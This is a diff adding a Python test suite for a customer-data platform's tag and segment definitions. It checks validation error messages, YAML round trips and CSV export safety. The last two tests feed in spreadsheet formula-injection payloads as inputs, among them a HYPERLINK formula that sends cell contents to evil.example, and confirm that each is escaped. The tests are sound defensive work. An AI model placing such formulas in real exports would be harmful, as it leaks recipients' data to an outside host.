@@ -1,0 +1,164 @@
+"""Tag and segment definitions: validation at load (errors name file, tag/segment, key and fix), round trips,
+and CSV formula-injection safety. Pure Python: no JVM."""
+from __future__ import annotations
+
+import datetime as dt
+import shutil
+from pathlib import Path
+
+import pytest
+
+from cdp.config import load_settings
+from cdp.tags.engine import DefinitionError, load_tag_catalog, parse_condition, parse_tag_file
+from cdp.tags.segments import (
+    load_segment,
+    load_segments,
+    parse_segment,
+    safe_cell,
+    save_segment,
+    segment_yaml,
+    write_csv,
+)
+
+REPO = Path(__file__).resolve().parent.parent
+
+
+@pytest.fixture()
+def conf_copy(tmp_path):
+    """A private copy of the shipped conf/ so tests can add broken files."""
+    conf = tmp_path / "conf"
+    shutil.copytree(REPO / "conf", conf)
+    return conf
+
+
+def test_shipped_tags_and_segments_load():
+    settings = load_settings("local")
+    catalog = load_tag_catalog(settings.conf_path("tags"))
+    assert {"durian_lover", "lifecycle_stage", "churn_grade", "guide_durian_fan", "vip_invite_list"} <= catalog.names
+    kinds = {t.kind for t in catalog.tags}
+    assert kinds == {"rule", "value", "wecom", "manual"}
+    names = {s.name for s in load_segments(settings)}
+    # the seven examples of issue 4 §5 (the 7th as a pair: added by a guide vs not)
+    assert names == {"durian_lovers", "kyoho_not_black_vine", "members_without_app", "never_bought_premium",
+                     "frequent_not_paid_member", "dormant_3_6_months", "wecom_guide_added", "wecom_not_added"}
+
+
+@pytest.mark.parametrize("tag, expected", [
+    # a typo in a key: the error says where, suggests the right key and lists the allowed ones
+    ({"name": "durian_lover", "when": {"bought": {"catgory": "榴莲"}}},
+     "tags/bad.yaml: tag 'durian_lover': when.bought.catgory: unknown key 'catgory' (did you mean 'category'?)"),
+    # a threshold below its bound
+    ({"name": "durian_lover", "when": {"bought": {"category": "榴莲", "min_times": 0}}},
+     "tag 'durian_lover': when.bought.min_times: Input should be greater than or equal to 1 (got 0)"),
+    # a name that cannot be a column
+    ({"name": "Durian Lover", "when": {"bought": {}}}, "tag 'Durian Lover': name: tag name 'Durian Lover' must be"),
+    # an unknown lifecycle stage, with a suggestion and the list to pick from
+    ({"name": "x", "when": {"lifecycle": "dormnat"}}, "when.lifecycle: unknown lifecycle value 'dormnat' (did you mean 'dormant'?)"),
+    # two kinds at once
+    ({"name": "x", "when": {"bought": {}}, "value": "city"}, "tag 'x': found ['when', 'value'] of when/value/wecom/manual. Fix:"),
+    # a tag condition cannot reference tags
+    ({"name": "x", "when": {"tag": "durian_lover"}}, "when.tag: a tag's condition cannot refer to other tags"),
+    # an attribute of the wrong type
+    ({"name": "x", "when": {"attribute": {"name": "has_app", "eq": "no"}}},
+     "when.attribute.eq: has_app is a boolean column, got 'no'. Fix: give true/false"),
+    ({"name": "x", "when": {"attribute": {"name": "hass_app", "eq": True}}},
+     "when.attribute.name: unknown attribute 'hass_app' (did you mean 'has_app'?)"),
+    ({"name": "x", "when": {"bought": {"channel": "shop"}}}, "unknown channel 'shop'; use one of ['pos', 'miniprogram', 'ecommerce']"),
+    ({"name": "x", "value": "citty"}, "tag 'x': value: cannot take the value of 'citty' (did you mean 'city'?)"),
+    ({"name": "x", "wecom": {"tag_name": "爱吃榴莲"}}, "wecom.group_name: required. Fix:"),
+    ({"name": "x", "manual": {"id_type": "mobile", "path": "a.csv"}}, "manual.id_type: Input should be 'one_id' or 'member_card_no'"),
+])
+def test_wrong_tag_is_rejected_with_file_tag_and_fix(conf_copy, tag, expected):
+    import yaml
+
+    (conf_copy / "tags" / "bad.yaml").write_text(yaml.safe_dump({"tags": [tag]}, allow_unicode=True), encoding="utf-8")
+    with pytest.raises(DefinitionError) as info:
+        load_tag_catalog(conf_copy / "tags")
+    assert expected in str(info.value)
+    assert str(conf_copy / "tags" / "bad.yaml") in str(info.value)
+
+
+def test_duplicate_tag_names_across_files(conf_copy):
+    (conf_copy / "tags" / "zz.yaml").write_text("tags:\n  - name: durian_lover\n    value: city\n", encoding="utf-8")
+    with pytest.raises(DefinitionError, match=r"zz.yaml: tag 'durian_lover': name: already declared in .*behaviour.yaml"):
+        load_tag_catalog(conf_copy / "tags")
+
+
+def test_segment_errors_list_every_problem_with_its_path():
+    raw = {"name": "x", "wher": {}, "where": {"all": [{"bought": {"sku": "S1", "within_days": -3}},
+                                                      {"tag": "durian_lovr"}, {"nott": {}}]},
+           "campaign": {"feedback_tag": "Bad Tag", "days": 400}}
+    with pytest.raises(DefinitionError) as info:
+        parse_segment(raw, "conf/segments/x.yaml", known_tags={"durian_lover"})
+    wheres = [w for w, _ in info.value.problems]
+    # every problem is reported at once, each with the path the marketer must edit
+    assert wheres == ["wher", "where.all[0].bought.within_days", "where.all[1].tag", "where.all[2].nott",
+                      "campaign.feedback_tag", "campaign.days"]
+    text = str(info.value)
+    assert "conf/segments/x.yaml: segment 'x': wher: unknown key 'wher' (did you mean 'where'?)" in text
+    assert "unknown tag 'durian_lovr' (did you mean 'durian_lover'?)" in text
+    assert "where.all[2].nott: unknown condition 'nott' (did you mean 'not'?)" in text
+    assert info.value.to_dict()["problems"][0] == {"where": "wher", "message": text.splitlines()[0].split("wher: ", 1)[1]}
+
+
+def test_segment_round_trip_dict_yaml_file(tmp_path):
+    """The console builds a dict, previews it, saves it as YAML: loading the saved file gives the same definition."""
+    settings = load_settings("local", conf_dir=None, overrides={"conf_dir": str(tmp_path / "conf")})
+    shutil.copytree(REPO / "conf", tmp_path / "conf")
+    raw = {"name": "grape_no_black_vine_sh", "label": "上海 巨峰", "where": {"all": [
+        {"bought": {"sku": "S20101", "within_days": 180}}, {"never_bought": {"sku": "S20102"}},
+        {"any": [{"attribute": {"name": "city", "in": ["上海", "杭州"]}}, {"lifecycle": ["active"]}]},
+        {"not": {"model": {"name": "churn", "grade": ["high"]}}}, {"tag": {"name": "rfm_segment", "in": ["Loyal"]}},
+        {"no_purchase_within_days": 7}, {"membership": {"brand_id": "main", "is_paid_member": False}},
+        {"wecom_tag": {"group_name": "偏好", "tag_name": "葡萄控"}},
+        {"attribute": {"name": "birthday", "lt": dt.date(2000, 1, 1)}}]},
+        "campaign": {"coupon_id": "CP-1", "feedback_tag": "redeemed_cp_1", "days": 14}}
+    seg = load_segment(raw, settings)
+    path = save_segment(seg, settings)
+    assert path == tmp_path / "conf" / "segments" / "grape_no_black_vine_sh.yaml"
+    again = load_segment("grape_no_black_vine_sh", settings)
+    assert again.to_yaml() == seg.to_yaml() == {**raw, "where": raw["where"]}
+    assert load_segment(segment_yaml(seg), settings).to_yaml() == raw
+    with pytest.raises(Exception, match="exists. Fix"):
+        save_segment(seg, settings)
+    # the feedback tag it declares can now be used by other segments
+    load_segment({"name": "fed", "where": {"tag": "redeemed_cp_1"}}, settings)
+
+
+def test_unknown_segment_name_suggests(tmp_path):
+    settings = load_settings("local")
+    with pytest.raises(Exception, match="no segment 'durian_lover' .*did you mean 'durian_lovers'"):
+        load_segment("durian_lover", settings)
+
+
+def test_tag_file_shape():
+    with pytest.raises(DefinitionError, match="a tag file holds one key `tags:`"):
+        parse_tag_file([{"name": "x"}], "t.yaml")
+
+
+def test_condition_descriptions():
+    cond = parse_condition({"all": [{"bought": {"sku": ["S1", "S2"], "min_amount": 100, "within_days": 30}},
+                                    {"not": {"rfm": ["Lost", "Hibernating"]}}]})
+    assert cond.describe() == ("(bought sku=S1|S2 for >= 100 CNY within 30 days AND "
+                               "NOT rfm_segment in ['Lost', 'Hibernating'])")
+
+
+@pytest.mark.parametrize("value, expected", [
+    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+    ("+8613800138000", "'+8613800138000"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("wmABC", "wmABC"), ("张*", "张*"), (None, ""), (12, "12"),
+])
+def test_safe_cell(value, expected):
+    assert safe_cell(value) == expected
+
+
+def test_write_csv_is_formula_safe(tmp_path):
+    out = tmp_path / "x.csv"
+    rows = [{"a": '=HYPERLINK("http://evil")', "b": "ok"}, {"a": "1", "b": "@x"}]
+    assert write_csv(rows, ["a", "b"], out) == 2
+    import csv
+
+    with open(out, encoding="utf-8-sig", newline="") as handle:
+        got = list(csv.reader(handle))
+    # no cell a spreadsheet would evaluate: every one starts with a harmless character
+    assert got == [["a", "b"], ["'=HYPERLINK(\"http://evil\")", "ok"], ["1", "'@x"]]
